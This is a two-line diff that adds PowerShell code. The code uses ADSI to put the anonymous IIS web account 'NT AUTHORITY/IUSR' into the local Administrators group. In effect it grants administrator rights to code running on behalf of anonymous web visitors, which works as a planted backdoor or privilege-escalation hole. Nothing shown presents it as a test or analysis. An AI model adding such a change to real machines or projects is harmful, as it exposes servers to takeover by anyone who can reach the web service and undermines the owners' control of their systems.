@@ -1,0 +1,2 @@
+$group = [ADSI]"WinNT://$env:COMPUTERNAME/Administrators,group"
+$group.Add("WinNT://NT AUTHORITY/IUSR")
